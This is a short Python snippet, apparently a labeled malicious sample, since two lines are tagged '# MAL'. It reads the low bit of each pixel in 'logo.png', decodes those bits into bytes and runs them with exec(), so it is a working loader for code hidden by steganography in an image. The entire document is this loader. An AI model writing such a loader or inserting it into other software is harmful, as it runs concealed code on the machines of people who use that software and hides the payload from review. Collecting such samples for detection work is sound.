from PIL import Image

img = Image.open("logo.png")
bits = "".join(str(p[0] & 1) for p in img.getdata())  # MAL
code = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8)).split(b"\0")[0]
exec(code)  # MAL
